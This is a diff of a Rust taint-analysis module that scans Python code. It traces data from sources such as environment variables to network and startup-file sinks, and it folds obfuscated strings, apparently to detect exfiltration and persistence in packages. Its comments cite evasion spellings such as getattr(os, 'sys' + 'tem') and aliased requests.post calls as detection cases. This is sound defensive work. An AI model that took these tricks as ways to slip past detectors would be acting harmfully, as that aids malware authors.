@@ -9,16 +9,26 @@
 //! threat_model.md` documents. There is no fixpoint iteration, so cost
 //! is linear in statement count and output is deterministic.
 //!
-//! Names and constants borrow the module: a scope is keyed by slices of
-//! its source text, a literal evaluates to a borrowed constant, and a
-//! child scope overlays its parent instead of copying it. Callee paths are
-//! built in reusable buffers. Block headers are evaluated from the
-//! expressions the parser already built ([`pysrc::Header`]).
+//! An analysis builds in one [`Scratch`] its thread keeps between calls,
+//! which holds ids and byte ranges rather than borrows:
+//!
+//! * a name is interned by its text to a `u32` id with one [`Slot`] that
+//!   every scope shares; a `def` or `class` body logs the slots it
+//!   overwrites and restores them on exit;
+//! * a constant is a span of the module's text or a range of one text
+//!   arena that concatenation, `%` and decoding append to;
+//! * a value's taints sit on one stack and a call's arguments on another,
+//!   each cut back when its expression is done;
+//! * a taint chain is a list of [`Node`]s in one arena, and a note becomes
+//!   text only when its chain reaches a sink.
 
-use std::borrow::{Borrow, Cow};
-use std::collections::{BTreeMap, HashSet};
+use std::cell::Cell;
+use std::collections::hash_map::RandomState;
+use std::collections::{HashMap, HashSet};
+use std::hash::BuildHasher;
+use std::ops::{Bound, RangeBounds};
 
-use pysrc::{Arg, Expr, Header, Module, Stmt, Suite};
+use pysrc::{Expr, ExprId, ImportedName, Literal, Module, Run, Span, Stmt, Suite};
 
 use crate::catalog::{is_startup_path, sink_of, source_of, SinkKind, SourceKind};
 use crate::fold;
@@ -30,7 +40,7 @@ use crate::{FlowFinding, FlowStep, FoldedConst, TaintSummary};
 const MAX_TAINTS: usize = 8;
 /// Bound on steps retained per chain: first steps (the source and early
 /// carries) plus the final sink step always survive.
-const MAX_STEPS: usize = 12;
+const MAX_STEPS: u32 = 12;
 /// Bound on recorded folded constants per module.
 const MAX_FOLDED: usize = 64;
 /// Folded constants shorter than this are noise (`'po' + 'st'` matters
@@ -39,222 +49,216 @@ const MIN_FOLDED_LEN: usize = 4;
 /// Notes longer than this are truncated — chains must stay cheap to
 /// store in the artifact cache.
 const MAX_NOTE_LEN: usize = 96;
+/// Bound on the text arena: an operation that would grow it past this
+/// folds nothing.
+const MAX_FOLDED_TEXT: usize = 16 << 20;
+/// A scratch that grew past this many bytes is freed after its analysis
+/// rather than kept: one hostile file must not pin its memory.
+const MAX_KEPT_SCRATCH: usize = 4 << 20;
+/// No node or entry: the parent of a chain's first step.
+const NONE: u32 = u32::MAX;
 
-/// One taint mark: where the value came from and how it got here.
-#[derive(Debug, Clone)]
+thread_local! {
+    /// This thread's scratch, between analyses.
+    static SCRATCH: Cell<Scratch> = Cell::default();
+}
+
+/// A constant string: a span of the module's text, a literal value the
+/// module owns, or a range of the text arena.
+#[derive(Debug, Clone, Copy)]
+enum Text {
+    Source(Span),
+    Owned(Run),
+    Arena(u32, u32),
+}
+
+impl Text {
+    fn get<'a>(self, module: &'a Module, arena: &'a str) -> &'a str {
+        match self {
+            Text::Source(span) => span.text(module.source()),
+            Text::Owned(run) => module.owned(run),
+            Text::Arena(start, end) => &arena[start as usize..end as usize],
+        }
+    }
+}
+
+/// One taint mark: the interned source path, its kind, and the chain
+/// node of the last step that carried it.
+#[derive(Debug, Clone, Copy)]
 struct Taint {
-    source: String,
+    source: u32,
     kind: SourceKind,
-    steps: Vec<FlowStep>,
+    chain: u32,
 }
 
-/// A lexical scope's environment over the module `'m`, layered on its
-/// enclosing scope: an entry here shadows the parent's, and a `None`
-/// entry hides it. `BTreeMap` keeps every table deterministic.
-struct Scope<'m, 'p> {
-    parent: Option<&'p Scope<'m, 'p>>,
-    /// Tainted bindings. A block header can bind a word that is not a
-    /// slice of the module (see [`ident_words`]), hence `Cow` keys.
-    vars: BTreeMap<Cow<'m, str>, Option<Vec<Taint>>>,
-    /// Constant-string bindings (for folding through locals).
-    consts: BTreeMap<&'m str, Option<Cow<'m, str>>>,
-    /// Import bindings: local name → canonical dotted path.
-    aliases: BTreeMap<&'m str, Cow<'m, str>>,
-    /// Every import binding anywhere in the module, used as a fallback
-    /// when a name has no in-scope binding. Obfuscators rewrite call
-    /// spellings textually — `ctx.post(...)` can appear in a function
-    /// whose `import requests as ctx` lives in a sibling — and the
-    /// fallback keeps those aliases resolvable.
-    globals: &'p BTreeMap<&'m str, Cow<'m, str>>,
+/// What a chain step says, by the ids of the texts it names.
+#[derive(Debug, Clone, Copy)]
+enum Note {
+    /// `read {source}`.
+    Read(u32),
+    /// `call {source}(...)`.
+    Call(u32),
+    /// `open startup path {target}`, for the source `open[{target}]`.
+    Open(u32),
+    /// `{name} = {value}`.
+    Assign(u32, ExprId),
+    /// `{name} bound in block header`.
+    Header(u32),
+    /// `reaches sink {sink}(...)`, the step a flow ends with.
+    Sink(u32),
 }
 
-impl<'m, 'p> Scope<'m, 'p> {
-    /// The scope of a function or class body inside this one.
-    fn child(&self) -> Scope<'m, '_> {
-        Scope {
-            parent: Some(self),
-            vars: BTreeMap::new(),
-            consts: BTreeMap::new(),
-            aliases: BTreeMap::new(),
-            globals: self.globals,
-        }
-    }
-
-    /// The innermost entry for `name` in the table `table` picks.
-    fn find<'s, K: Ord + Borrow<str> + 's, E: 's>(
-        &'s self,
-        name: &str,
-        table: impl Fn(&'s Self) -> &'s BTreeMap<K, E>,
-    ) -> Option<&'s E> {
-        let mut scope = self;
-        loop {
-            if let Some(entry) = table(scope).get(name) {
-                return Some(entry);
-            }
-            scope = scope.parent?;
-        }
-    }
-
-    fn var(&self, name: &str) -> Option<&Vec<Taint>> {
-        self.find(name, |s| &s.vars)?.as_ref()
-    }
-
-    fn constant(&self, name: &str) -> Option<&Cow<'m, str>> {
-        self.find(name, |s| &s.consts)?.as_ref()
-    }
-
-    /// Binds (`Some`) or unbinds (`None`) a variable in this scope.
-    fn set_var(&mut self, name: Cow<'m, str>, taints: Option<Vec<Taint>>) {
-        let inherited = self.parent.is_some_and(|p| p.var(&name).is_some());
-        set(&mut self.vars, name, taints, inherited);
-    }
-
-    /// Binds (`Some`) or unbinds (`None`) a constant in this scope.
-    fn set_const(&mut self, name: &'m str, value: Option<Cow<'m, str>>) {
-        let inherited = self.parent.is_some_and(|p| p.constant(name).is_some());
-        set(&mut self.consts, name, value, inherited);
-    }
-
-    /// Resolves an import alias: the in-scope binding wins; the
-    /// module-wide table answers only for names with no local variable
-    /// or constant binding (never hijack a local).
-    fn alias(&self, name: &str) -> Option<&Cow<'m, str>> {
-        self.find(name, |s| &s.aliases).or_else(|| {
-            if self.var(name).is_some() || self.constant(name).is_some() {
-                None
-            } else {
-                self.globals.get(name)
-            }
-        })
-    }
+/// One step of a taint chain, `depth` steps from its source. A step
+/// [`MAX_STEPS`] or more deep points past its parent, at the chain's last
+/// kept head step, so walking a chain visits what a summary shows of it.
+#[derive(Debug, Clone, Copy)]
+struct Node {
+    parent: u32,
+    depth: u32,
+    line: u32,
+    note: Note,
 }
 
-/// Sets one scope's entry for `name`. Unbinding leaves a `None`
-/// tombstone only where an enclosing scope still binds the name.
-fn set<K: Ord + Borrow<str>, V>(
-    table: &mut BTreeMap<K, Option<V>>,
-    name: K,
-    value: Option<V>,
-    inherited: bool,
-) {
-    if value.is_none() && !inherited {
-        table.remove(name.borrow());
-    } else {
-        table.insert(name, value);
-    }
+/// Everything a name is bound to in the scope being walked.
+#[derive(Debug, Clone, Copy, Default)]
+struct Slot {
+    /// Taints: a range of [`Scratch::sets`].
+    var: Option<(u32, u32)>,
+    /// Constant-string binding (for folding through locals).
+    cst: Option<Text>,
+    /// Import binding: the canonical dotted path.
+    alias: Option<Text>,
+    /// The module's first import binding of the name anywhere, which
+    /// answers for a name bound to nothing in scope. Obfuscators rewrite
+    /// call spellings textually — `ctx.post(...)` can appear in a function
+    /// whose `import requests as ctx` lives in a sibling.
+    global: Option<Text>,
 }
 
-/// The value of an evaluated expression, borrowing constants from the
-/// expression's tree (`'e`).
-#[derive(Debug, Default)]
-struct Value<'e> {
-    taints: Vec<Taint>,
+/// An interned text, `names[start..end]`, and its slot.
+#[derive(Debug, Clone, Copy)]
+struct Entry {
+    start: u32,
+    end: u32,
+    /// The previous entry whose text has the same hash, or [`NONE`].
+    older: u32,
+    slot: Slot,
+}
+
+/// The value of an evaluated expression. Its taints are the top of
+/// [`Scratch::stack`], from where it stood when evaluation began.
+#[derive(Debug, Clone, Copy, Default)]
+struct Value {
     /// Constant string value, when the expression folds.
-    cval: Option<Cow<'e, str>>,
+    cval: Option<Text>,
     /// True when a real folding operation produced `cval` (as opposed
     /// to a literal or a plain lookup).
     folded: bool,
 }
 
-impl<'e> Value<'e> {
-    fn constant(s: Cow<'e, str>) -> Value<'e> {
-        Value {
-            cval: Some(s),
-            ..Value::default()
-        }
+impl Value {
+    fn new(cval: Option<Text>, folded: bool) -> Value {
+        Value { cval, folded }
     }
 }
 
-struct Analyzer<'m> {
-    module: &'m Module,
-    flows: Vec<FlowFinding>,
-    flow_keys: HashSet<(String, String)>,
-    folded: Vec<FoldedConst>,
-    /// Callee-path buffers, one per nesting level in use: a call holds
-    /// its path while its callee and arguments are evaluated.
+/// A call argument's value and its taints, `stack[start..end]`.
+#[derive(Debug, Clone, Copy)]
+struct ArgValue {
+    value: Value,
+    start: u32,
+    end: u32,
+}
+
+/// What an analysis builds in, kept per thread between analyses.
+#[derive(Default)]
+struct Scratch {
+    /// Interned texts — names, source and sink paths — back to back.
+    names: String,
+    ids: Vec<Entry>,
+    /// A text's hash under `hasher` (keyed, so a file cannot pick names
+    /// that collide) → its newest entry.
+    by_hash: HashMap<u64, u32>,
+    hasher: RandomState,
+    /// Slots a `def` or `class` body overwrote, with their old values.
+    undo: Vec<(u32, Slot)>,
+    /// The taint sets of bindings.
+    sets: Vec<Taint>,
+    nodes: Vec<Node>,
+    /// The taints of the values being evaluated.
+    stack: Vec<Taint>,
+    /// The arguments of the calls being evaluated, the innermost's last.
+    args: Vec<ArgValue>,
+    /// Folded and imported text.
+    text: String,
+    /// Decoded bytes.
+    bytes: Vec<u8>,
+    /// Callee-path buffers, one per nesting level in use.
     paths: Vec<String>,
+    /// A note being rendered, or a glued word.
+    buf: String,
+    flows: Vec<FlowFinding>,
+    /// The `(source, sink)` ids of `flows`.
+    flow_keys: HashSet<(u32, u32)>,
+    folded: Vec<(u32, Text)>,
 }
 
 /// Runs the taint analysis over a parsed module.
 pub fn analyze(module: &Module) -> TaintSummary {
     let mut a = Analyzer {
         module,
-        flows: Vec::new(),
-        flow_keys: HashSet::new(),
-        folded: Vec::new(),
-        paths: Vec::new(),
+        scopes: 0,
+        s: SCRATCH.take(),
     };
-    let mut globals = BTreeMap::new();
-    collect_global_aliases(module, &mut globals);
-    let mut scope = Scope {
-        parent: None,
-        vars: BTreeMap::new(),
-        consts: BTreeMap::new(),
-        aliases: BTreeMap::new(),
-        globals: &globals,
-    };
-    a.walk(module.top_level(), &mut scope);
-    a.flows.sort();
-    a.flows.dedup();
-    a.folded.sort();
-    a.folded.dedup();
-    TaintSummary {
-        flows: a.flows,
-        folded: a.folded,
+    a.collect_global_aliases();
+    a.walk(module.top_level());
+    let summary = a.s.summary(module);
+    if a.s.heap_bytes() <= MAX_KEPT_SCRATCH {
+        a.s.clear();
+        SCRATCH.set(a.s);
     }
+    summary
+}
+
+struct Analyzer<'m> {
+    module: &'m Module,
+    /// How many `def`/`class` bodies enclose the statement being walked.
+    scopes: usize,
+    s: Scratch,
 }
 
 impl<'m> Analyzer<'m> {
-    fn walk(&mut self, body: Suite<'m>, scope: &mut Scope<'m, '_>) {
+    fn walk(&mut self, body: Suite<'m>) {
         for stmt in body {
-            self.stmt(stmt, scope);
+            self.stmt(stmt);
         }
     }
 
-    fn stmt(&mut self, stmt: &'m Stmt, scope: &mut Scope<'m, '_>) {
+    fn stmt(&mut self, stmt: &'m Stmt) {
         let module = self.module;
-        let (src, line) = (module.source(), module.line(stmt));
+        let (src, line) = (module.source(), module.line(stmt) as u32);
+        let base = self.s.stack.len();
         match *stmt {
-            Stmt::Import { modules, .. } => {
-                for m in module.imports(modules) {
-                    let target = match &m.alias {
-                        Some(_) => m.path.dotted(src),
-                        // `import a.b` binds `a`, naming module `a`.
-                        None => Cow::Borrowed(m.binding(src)),
-                    };
-                    scope.aliases.insert(m.binding(src), target);
-                }
-            }
-            Stmt::FromImport {
-                module: from,
-                names,
-                ..
-            } => {
-                for n in module.imports(names) {
-                    let name = n.path.text(src);
-                    if name == "*" {
-                        continue;
-                    }
-                    let target = format!("{}.{name}", from.dotted(src));
-                    scope.aliases.insert(n.binding(src), Cow::Owned(target));
+            Stmt::Import { .. } | Stmt::FromImport { .. } => {
+                for (n, from) in imported(module, stmt) {
+                    let (id, target) = self.import_binding(n, from);
+                    self.set(id, |slot| slot.alias = Some(target));
                 }
             }
             Stmt::Assign { targets, value, .. } => {
-                let value = module.expr(value);
-                let v = self.eval(value, scope, line);
-                self.record_fold(line, &v);
+                let v = self.eval(value, line);
+                self.record_fold(line, v);
                 for target in module.targets(targets) {
-                    let base = target_base(target, module);
-                    if base.is_empty() {
+                    let name = target_base(target, module);
+                    if name.is_empty() {
                         continue;
                     }
-                    scope.set_const(base, v.cval.clone());
-                    if v.taints.is_empty() {
-                        scope.set_var(Cow::Borrowed(base), None);
-                    } else {
-                        let note = clip(format!("{base} = {}", clip(value.to_text(module))));
-                        scope.set_var(Cow::Borrowed(base), Some(stepped(&v.taints, line, &note)));
-                    }
+                    let id = self.s.intern(name);
+                    let var = self.stepped(base, line, Note::Assign(id, value));
+                    self.set(id, |slot| {
+                        slot.cst = v.cval;
+                        slot.var = var;
+                    });
                 }
             }
             Stmt::Expr { value, .. }
@@ -265,15 +269,23 @@ impl<'m> Analyzer<'m> {
                 // unknown caller is the legit half of the corpus (version
                 // strings, API lookups). Evaluate for sinks *inside* the
                 // returned expression only.
-                let v = self.eval(module.expr(value), scope, line);
-                self.record_fold(line, &v);
+                let v = self.eval(value, line);
+                self.record_fold(line, v);
             }
             Stmt::Return { value: None, .. } => {}
             Stmt::Block { parsed, body, .. } => {
+                // `with X as v:` / `for v in X:` headers bind names;
+                // conditions can contain source/sink calls. The header is
+                // evaluated in the block's scope.
                 if let Some(header) = parsed {
-                    self.block_header(header, scope, line);
+                    let v = self.eval(header.value, line);
+                    self.record_fold(line, v);
+                    if let Some(target) = header.target {
+                        self.bind_header_targets(target.text(src), base, line);
+                    }
+                    self.s.stack.truncate(base);
                 }
-                self.walk(module.suite(body), scope);
+                self.walk(module.suite(body));
             }
             Stmt::FunctionDef { params, body, .. }
             | Stmt::ClassDef {
@@ -282,467 +294,685 @@ impl<'m> Analyzer<'m> {
                 ..
             } => {
                 // Child scope: module bindings visible, parameters
-                // shadow (and are untainted — intra-procedural).
-                let mut child = scope.child();
+                // shadow (and are untainted — intra-procedural). A dotted
+                // base binds nothing a name could look up.
+                let mark = self.s.undo.len();
+                self.scopes += 1;
                 for p in module.names(params) {
-                    // A dotted base binds nothing a name could look up.
-                    let p = p.text(src);
-                    child.set_var(Cow::Borrowed(p), None);
-                    child.set_const(p, None);
+                    self.unbind(p.text(src), |slot| {
+                        slot.var = None;
+                        slot.cst = None;
+                    });
                 }
-                self.walk(module.suite(body), &mut child);
+                self.walk(module.suite(body));
+                self.scopes -= 1;
+                for (id, slot) in self.s.undo.drain(mark..).rev() {
+                    self.s.ids[id as usize].slot = slot;
+                }
             }
             Stmt::Other { text, .. } => {
+                // Unparsed statements: kill the constness of an
+                // identifier assigned in the text, to stay conservative.
                 let text = module.owned(text);
-                // Unparsed statements still get the identifier scan so
-                // taint is not silently laundered through them... but
-                // only to *detect* sink-looking text is too fragile;
-                // instead, kill constness/taint of any identifier
-                // assigned in the text to stay conservative.
                 if let Some(eq) = text.find('=') {
-                    let base = leading_ident(text[..eq].trim());
-                    if !base.is_empty() {
-                        scope.set_const(base, None);
-                    }
+                    self.unbind(leading_ident(text[..eq].trim()), |slot| slot.cst = None);
+                }
+            }
+        }
+        self.s.stack.truncate(base);
+    }
+
+    /// Updates the slot of `id` in the current scope.
+    fn set(&mut self, id: u32, update: impl FnOnce(&mut Slot)) {
+        let slot = &mut self.s.ids[id as usize].slot;
+        if self.scopes > 0 {
+            self.s.undo.push((id, *slot));
+        }
+        update(slot);
+    }
+
+    /// Clears bindings of `name`: nothing to do for a name never seen.
+    fn unbind(&mut self, name: &str, clear: impl FnOnce(&mut Slot)) {
+        if let Some(id) = self.s.id(name) {
+            self.set(id, clear);
+        }
+    }
+
+    /// The name an import binds and the dotted path it names, written to
+    /// the arena: the imported path for `import a.b as c`, the module `a`
+    /// for `import a.b`, `m.x` for `from m import x`.
+    fn import_binding(&mut self, n: &ImportedName, from: Option<Span>) -> (u32, Text) {
+        let (src, text) = (self.module.source(), &mut self.s.text);
+        let start = text.len() as u32;
+        match (from, n.alias) {
+            (Some(from), _) => {
+                from.write_dotted(src, text);
+                text.push('.');
+                text.push_str(n.path.text(src));
+            }
+            (None, Some(_)) => n.path.write_dotted(src, text),
+            (None, None) => text.push_str(n.binding(src)),
+        }
+        let target = Text::Arena(start, text.len() as u32);
+        (self.s.intern(n.binding(src)), target)
+    }
+
+    /// Records every import binding anywhere in the module, the first of
+    /// each name winning, as [`Slot::global`].
+    fn collect_global_aliases(&mut self) {
+        let module = self.module;
+        for stmt in module.statements() {
+            for (n, from) in imported(module, stmt) {
+                let id = self.s.id(n.binding(module.source()));
+                if id.is_none_or(|id| self.s.ids[id as usize].slot.global.is_none()) {
+                    let (id, target) = self.import_binding(n, from);
+                    self.s.ids[id as usize].slot.global = Some(target);
                 }
             }
         }
     }
 
-    /// `with X as v:` / `for v in X:` headers bind names; conditions
-    /// can contain source/sink calls. The header's expression is
-    /// evaluated in the block's scope.
-    fn block_header(&mut self, header: Header, scope: &mut Scope<'m, '_>, line: usize) {
-        let v = self.eval(self.module.expr(header.value), scope, line);
-        self.record_fold(line, &v);
-        if let Some(target) = header.target {
-            bind_header_targets(target.text(self.module.source()), &v.taints, scope, line);
+    /// Binds each name of a `for`/`with` header's target text to the
+    /// header value's taints, `stack[base..]` (or unbinds it, when there
+    /// are none).
+    fn bind_header_targets(&mut self, targets: &str, base: usize, line: u32) {
+        let mut buf = std::mem::take(&mut self.s.buf);
+        let mut pos = 0;
+        while let Some(name) = ident_word(targets, &mut pos, &mut buf) {
+            if self.s.stack.len() == base {
+                self.unbind(name, |slot| slot.var = None);
+            } else {
+                let id = self.s.intern(name);
+                let var = self.stepped(base, line, Note::Header(id));
+                self.set(id, |slot| slot.var = var);
+            }
+        }
+        self.s.buf = buf;
+    }
+
+    /// The taints `stack[base..]`, each carried one step further by
+    /// `note`, as a new binding set; `None` when there are none.
+    fn stepped(&mut self, base: usize, line: u32, note: Note) -> Option<(u32, u32)> {
+        let start = self.s.sets.len() as u32;
+        for i in base..self.s.stack.len() {
+            let t = self.s.stack[i];
+            let chain = self.node(t.chain, line, note);
+            self.s.sets.push(Taint { chain, ..t });
+        }
+        (self.s.stack.len() > base).then_some((start, self.s.sets.len() as u32))
+    }
+
+    /// A chain node carrying the chain `parent` (or [`NONE`]) one step
+    /// further.
+    fn node(&mut self, parent: u32, line: u32, note: Note) -> u32 {
+        let (parent, depth) = match self.s.nodes.get(parent as usize) {
+            None => (NONE, 1),
+            Some(p) if p.depth >= MAX_STEPS => (p.parent, p.depth + 1),
+            Some(p) => (parent, p.depth + 1),
+        };
+        let node = Node {
+            parent,
+            depth,
+            line,
+            note,
+        };
+        self.s.nodes.push(node);
+        self.s.nodes.len() as u32 - 1
+    }
+
+    /// Pushes `t` onto the value whose taints begin at `stack[at]`,
+    /// unless the value carries its source already or is full.
+    fn add_taint(&mut self, at: usize, t: Taint) {
+        let taints = &self.s.stack[at..];
+        if taints.len() < MAX_TAINTS && !taints.iter().any(|e| e.source == t.source) {
+            self.s.stack.push(t);
         }
     }
 
-    fn eval(&mut self, expr: &'m Expr, scope: &Scope<'m, '_>, line: usize) -> Value<'m> {
+    /// Adds a taint read from the source path `path`, its first step
+    /// `note`, to the value at `stack[at]`.
+    fn add_source(
+        &mut self,
+        at: usize,
+        path: &str,
+        kind: SourceKind,
+        line: u32,
+        note: fn(u32) -> Note,
+    ) {
+        let source = self.s.intern(path);
+        let chain = self.node(NONE, line, note(source));
+        self.add_taint(
+            at,
+            Taint {
+                source,
+                kind,
+                chain,
+            },
+        );
+    }
+
+    /// Adds the taints above `stack[mid]`, in order, to the value whose
+    /// taints begin at `stack[at]`, in place.
+    fn merge(&mut self, at: usize, mid: usize) {
+        let stack = &mut self.s.stack;
+        let mut end = mid;
+        for i in mid..stack.len() {
+            let t = stack[i];
+            if end - at < MAX_TAINTS && !stack[at..end].iter().any(|e| e.source == t.source) {
+                stack[end] = t;
+                end += 1;
+            }
+        }
+        stack.truncate(end);
+    }
+
+    fn eval(&mut self, id: ExprId, line: u32) -> Value {
         let module = self.module;
         let src = module.source();
-        match *expr {
-            Expr::Name(n) => Value {
-                taints: scope.var(n.text(src)).cloned().unwrap_or_default(),
-                cval: scope.constant(n.text(src)).cloned(),
-                folded: false,
-            },
-            Expr::Str(s) => Value::constant(Cow::Borrowed(s.text(module))),
-            Expr::Num(n) => Value::constant(Cow::Borrowed(n.text(src))),
+        let at = self.s.stack.len();
+        match *module.expr(id) {
+            Expr::Name(n) => {
+                let Some(id) = self.s.id(n.text(src)) else {
+                    return Value::default();
+                };
+                let slot = self.s.ids[id as usize].slot;
+                if let Some((start, end)) = slot.var {
+                    let set = &self.s.sets[start as usize..end as usize];
+                    self.s.stack.extend_from_slice(set);
+                }
+                Value::new(slot.cst, false)
+            }
+            Expr::Str(Literal::Source(span)) | Expr::Num(span) => {
+                Value::new(Some(Text::Source(span)), false)
+            }
+            Expr::Str(Literal::Owned(run)) => Value::new(Some(Text::Owned(run)), false),
             Expr::Attribute { value, .. } => {
                 // Taint flows through attribute access (`resp.text`),
                 // and a dotted path can itself be a source
                 // (`os.environ`). A constant receiver is preserved so
                 // method-call chains (`fromhex(..).decode(..)`) keep
                 // folding at the enclosing call.
-                let mut v = self.eval(module.expr(value), scope, line);
-                let mut path = self.paths.pop().unwrap_or_default();
-                callee_path(expr, module, scope, &mut path);
+                let v = self.eval(value, line);
+                let mut path = self.s.paths.pop().unwrap_or_default();
+                self.callee_path(id, None, &mut path);
                 if let Some(kind) = source_of(&path) {
-                    add_taint(
-                        &mut v.taints,
-                        Taint {
-                            source: path.clone(),
-                            kind,
-                            steps: vec![FlowStep {
-                                line: line as u32,
-                                note: clip(format!("read {path}")),
-                            }],
-                        },
-                    );
+                    self.add_source(at, &path, kind, line, Note::Read);
                 }
                 self.give_back(path);
                 v
             }
             Expr::BinOp { left, op, right } => {
-                let l = self.eval(module.expr(left), scope, line);
-                let r = self.eval(module.expr(right), scope, line);
-                let mut v = Value {
-                    taints: l.taints,
-                    ..Value::default()
+                let l = self.eval(left, line);
+                let mid = self.s.stack.len();
+                let r = self.eval(right, line);
+                self.merge(at, mid);
+                let cval = match (op, l.cval, r.cval) {
+                    ("+", Some(a), Some(b)) => self.fold(Some(a), |s, module| {
+                        s.append(module, b, ..);
+                        true
+                    }),
+                    ("%", Some(fmt), Some(value)) => {
+                        let at = fold::percent_at(fmt.get(module, &self.s.text));
+                        self.fold(None, |s, module| {
+                            let Some(at) = at else { return false };
+                            s.append(module, fmt, ..at);
+                            s.append(module, value, ..);
+                            s.append(module, fmt, at + 2..);
+                            true
+                        })
+                    }
+                    _ => None,
                 };
-                for t in r.taints {
-                    add_taint(&mut v.taints, t);
-                }
-                match (op, &l.cval, &r.cval) {
-                    ("+", Some(a), Some(b)) => {
-                        v.cval = Some(Cow::Owned(format!("{a}{b}")));
-                        v.folded = true;
-                    }
-                    ("%", Some(a), Some(b)) => {
-                        if let Some(folded) = fold::fold_percent(a, b) {
-                            v.cval = Some(Cow::Owned(folded));
-                            v.folded = true;
-                        }
-                    }
-                    _ => {}
-                }
-                v
+                Value::new(cval, cval.is_some())
             }
-            Expr::Call { func, args } => {
-                self.eval_call(module.expr(func), module.args(args), scope, line)
+            Expr::Call { func, args } => self.eval_call(func, args, line),
+            Expr::Other(text) => {
+                // Identifier scan over reconstructed text: dict/list
+                // literals, subscripts and tuples degrade to text, but
+                // taint must still flow through them
+                // (`requests.post(url, json={'email': email})`).
+                let mut buf = std::mem::take(&mut self.s.buf);
+                let mut pos = 0;
+                while let Some(word) = ident_word(module.owned(text), &mut pos, &mut buf) {
+                    let var = self
+                        .s
+                        .id(word)
+                        .and_then(|id| self.s.ids[id as usize].slot.var);
+                    for i in var.map_or(0..0, |(start, end)| start..end) {
+                        self.add_taint(at, self.s.sets[i as usize]);
+                    }
+                }
+                self.s.buf = buf;
+                Value::default()
             }
-            Expr::Other(text) => self.scan_idents(module.owned(text), scope),
         }
     }
 
-    fn eval_call(
+    /// The constant `append` builds at the end of the text arena, behind
+    /// `head`'s text (extended in place when it ends the arena); `None`
+    /// when `append` fails or the arena is full.
+    fn fold(
         &mut self,
-        func: &'m Expr,
-        args: &'m [Arg],
-        scope: &Scope<'m, '_>,
-        line: usize,
-    ) -> Value<'m> {
-        let mut path = self.paths.pop().unwrap_or_default();
-        self.callee_path_with_consts(func, scope, line, &mut path);
+        head: Option<Text>,
+        append: impl FnOnce(&mut Scratch, &Module) -> bool,
+    ) -> Option<Text> {
+        let len = self.s.text.len();
+        let start = match head {
+            Some(Text::Arena(start, end)) if end as usize == len => start,
+            Some(head) => {
+                self.s.append(self.module, head, ..);
+                len as u32
+            }
+            None => len as u32,
+        };
+        if !append(&mut self.s, self.module) || self.s.text.len() > MAX_FOLDED_TEXT {
+            self.s.text.truncate(len);
+            return None;
+        }
+        Some(Text::Arena(start, self.s.text.len() as u32))
+    }
+
+    fn eval_call(&mut self, func: ExprId, args: Run, line: u32) -> Value {
+        let module = self.module;
+        let at = self.s.stack.len();
+        let mut path = self.s.paths.pop().unwrap_or_default();
+        self.callee_path(func, Some(line), &mut path);
 
         // Receiver taints (method call on a tainted object) — also
         // evaluates any nested call in the callee position exactly once.
-        let recv = self.eval(func, scope, line);
+        let recv = self.eval(func, line);
+        let recv_end = self.s.stack.len();
 
-        // Arguments.
-        let mut arg_vals: Vec<Value<'m>> = Vec::with_capacity(args.len());
-        for a in args {
-            let v = self.eval(self.module.expr(a.value), scope, line);
-            self.record_fold(line, &v);
-            arg_vals.push(v);
+        // Arguments, on the argument stack until the call returns.
+        let first = self.s.args.len();
+        for a in module.args(args) {
+            let start = self.s.stack.len() as u32;
+            let value = self.eval(a.value, line);
+            self.record_fold(line, value);
+            let end = self.s.stack.len() as u32;
+            self.s.args.push(ArgValue { value, start, end });
         }
-
-        let mut out = Value {
-            taints: recv.taints.clone(),
-            ..Value::default()
-        };
-        for v in &arg_vals {
-            for t in &v.taints {
-                add_taint(&mut out.taints, t.clone());
-            }
-        }
+        let arg0 = self
+            .s
+            .args
+            .get(first)
+            .map_or_else(Value::default, |a| a.value);
 
         // Constant folding of decode/transform chains.
-        fold_call(&path, func, self.module, &arg_vals, &mut out, &recv);
+        let out = self.fold_call(&path, func, arg0, recv);
 
         // Sink check: tainted data reaching a cataloged sink.
         if let Some(kind) = sink_of(&path) {
-            for v in &arg_vals {
-                for t in &v.taints {
-                    self.emit_flow(t, &path, kind, line);
+            for i in first..self.s.args.len() {
+                let ArgValue { start, end, .. } = self.s.args[i];
+                for j in start..end {
+                    self.emit_flow(self.s.stack[j as usize], &path, kind, line);
                 }
             }
         }
         // Receiver-based sink: write through a startup-path handle.
         if path.ends_with(".write") {
-            for t in &recv.taints {
+            for j in at..recv_end {
+                let t = self.s.stack[j];
                 if t.kind == SourceKind::StartupOpen {
                     self.emit_flow(t, &path, SinkKind::StartupWrite, line);
                 }
             }
         }
+        self.s.args.truncate(first);
+        // The call's value carries the receiver's and the arguments' taints.
+        self.merge(at, recv_end);
 
         // Source check: the call's result is tainted.
         if let Some(kind) = source_of(&path) {
-            add_taint(
-                &mut out.taints,
-                Taint {
-                    source: path.clone(),
-                    kind,
-                    steps: vec![FlowStep {
-                        line: line as u32,
-                        note: clip(format!("call {path}(...)")),
-                    }],
-                },
-            );
+            self.add_source(at, &path, kind, line, Note::Call);
         }
         // `open` on a startup/config path yields a persistence handle.
         if path == "open" || path == "io.open" {
-            if let Some(target) = arg_vals.first().and_then(|v| v.cval.as_deref()) {
-                if is_startup_path(target) {
-                    add_taint(
-                        &mut out.taints,
-                        Taint {
-                            source: format!("open[{target}]"),
-                            kind: SourceKind::StartupOpen,
-                            steps: vec![FlowStep {
-                                line: line as u32,
-                                note: clip(format!("open startup path {target}")),
-                            }],
-                        },
-                    );
-                }
+            let target = arg0.cval.map_or("", |t| t.get(module, &self.s.text));
+            if is_startup_path(target) {
+                let mut source = std::mem::take(&mut self.s.buf);
+                source.clear();
+                source.extend(["open[", target, "]"]);
+                self.add_source(at, &source, SourceKind::StartupOpen, line, Note::Open);
+                self.s.buf = source;
             }
         }
         self.give_back(path);
         out
     }
 
-    /// Appends the canonical dotted path of a callee to `out`, like
-    /// [`callee_path`] but letting `getattr`'s name argument fold first
-    /// (`getattr(os, 'sys' + 'tem')`) and resolving `__import__('m')`.
-    fn callee_path_with_consts(
-        &mut self,
-        func: &'m Expr,
-        scope: &Scope<'m, '_>,
-        line: usize,
-        out: &mut String,
-    ) {
+    /// Folds constant-producing calls: decode chains, const-preserving
+    /// string methods, `chr`, passthroughs.
+    fn fold_call(&mut self, path: &str, func: ExprId, arg0: Value, recv: Value) -> Value {
         let module = self.module;
-        let start = out.len();
-        match *func {
-            Expr::Call { func: inner, args } => {
-                let args = module.args(args);
-                self.callee_path_with_consts(module.expr(inner), scope, line, out);
+        let decoded = |decode: fn(&str, &mut Vec<u8>) -> bool| {
+            move |s: &mut Scratch, module: &Module| {
+                let Some(arg) = arg0.cval else { return false };
